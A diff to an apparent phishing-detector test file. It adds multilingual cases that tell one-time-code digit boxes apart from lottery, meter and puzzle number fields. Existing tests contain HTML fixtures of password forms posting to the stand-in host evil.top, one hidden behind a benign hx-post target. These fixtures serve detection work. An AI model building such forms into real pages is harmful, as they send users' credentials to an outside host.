@@ -105,7 +105,36 @@ def test_a_row_of_boxes_below_words_for_so_many_digits_takes_a_code(words: str) 
     "words", ["Enter your 6-digit postal code", "the last 4 digits of your card", "the 6-digit game number", "6位邀请码"]
 )
 def test_digits_of_something_else_are_no_code(words: str) -> None:
-    assert not takes_digits([words], sent=False)
+    assert not takes_digits([words, "Confirm"], sent=False)
+
+
+@pytest.mark.parametrize(
+    ("title", "words"),
+    [
+        ("ตรวจหวย สลากกินแบ่งรัฐบาล", "กรอกหมายเลข 6 หลักบนสลาก แล้วกดยืนยัน"),
+        ("Dò vé số kiến thiết", "Nhập mã vé số 6 chữ số để dò kết quả"),
+        ("Semak keputusan 4D", "Masukkan nombor 4 digit dan sahkan"),
+        ("4D results checker", "Enter your 4-digit number"),
+        ("복권 당첨 조회", "6자리 숫자를 입력하고 확인을 누르세요"),
+        ("統一發票對獎", "輸入發票號碼8位數"),
+        ("ពិនិត្យឆ្នោត", "បញ្ចូលលេខ 6 ខ្ទង់"),
+        ("Register", "Confirm the 8-digit date of birth (DDMMYYYY)"),
+        ("แจ้งเลขมิเตอร์น้ำ", "กรอกตัวเลข 5 หลักบนมิเตอร์ แล้วยืนยัน"),
+        ("Numble", "Guess the 5-digit number"),
+        ("ตรวจผลสอบ", "กรอกรหัสนักเรียน 5 หลัก"),
+        ("Contact us", "Enter the 6 digits shown below"),
+    ],
+)
+def test_boxes_for_a_ticket_a_meter_or_a_puzzle_take_no_code(title: str, words: str) -> None:
+    boxes = "<input maxlength=1 inputmode=numeric>" * 6
+    assert read(f"<title>{title}</title><h1>{title}</h1><p>{words}</p><div>{boxes}</div>").asks == ()
+
+
+def test_a_check_of_who_one_is_above_a_row_of_boxes_says_what_they_take() -> None:
+    boxes = "<input maxlength=1 inputmode=numeric>" * 6
+    assert read(f"<title>ยืนยันตัวตน</title><p>กรอกตัวเลข 6 หลัก</p><div>{boxes}</div>").asks == ("otp",)
+    parcel = f"<title>พัสดุของท่าน</title><p>กรอกรหัส 6 หลักที่ส่งไปยังโทรศัพท์</p><div>{boxes}</div>"
+    assert read(parcel).asks == ("otp",)
 
 
 def test_a_form_that_htmx_sends_goes_where_that_says_and_where_its_action_does() -> None:
@@ -114,7 +143,6 @@ def test_a_form_that_htmx_sends_goes_where_that_says_and_where_its_action_does()
     hidden = read("<form method=post action=https://evil.top/p hx-post=/ok><input type=password></form>").forms
     assert "evil.top" in {form.action_host for form in hidden}
     assert [form.action_host for form in read("<form hx-post=https://evil.top/p><input type=password></form>").forms] == ["evil.top"]
-
 
 
 @pytest.mark.parametrize(
